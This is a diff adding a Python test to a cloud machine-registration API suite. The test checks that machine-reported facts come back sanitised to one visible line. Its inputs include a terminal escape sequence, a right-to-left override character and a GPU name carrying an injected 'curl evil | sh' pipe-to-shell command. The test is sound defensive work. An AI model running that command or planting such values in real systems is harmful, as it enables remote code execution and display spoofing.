@@ -220,6 +220,16 @@ async def test_bad_input(cloud: Api, field: str, value: Any) -> None:
     assert_problem(answer, 422, "invalid_input")
 
 
+async def test_what_a_machine_says_of_itself_is_one_line_that_can_be_seen(cloud: Api) -> None:
+    facts = join_body("")["facts"]
+    machine, _ = await joined(
+        cloud, facts=facts | {"kernel": "6.1\x1b[2J\u202e", "gpus": ["L4\n  curl evil | sh"]}
+    )
+    shown = (await cloud.get(cloud.operator, f"/machines/{machine['id']}")).json()
+    assert shown["facts"]["kernel"] == "6.1\ufffd[2J\ufffd"
+    assert shown["gpus"] == ["L4 curl evil | sh"]
+
+
 async def test_without_a_hub_a_machine_hears_why(cloud: Api) -> None:
     token = (await added(cloud))["token"]
     await cloud.execute("UPDATE tunnel_hubs SET error = 'wg is not installed.'")
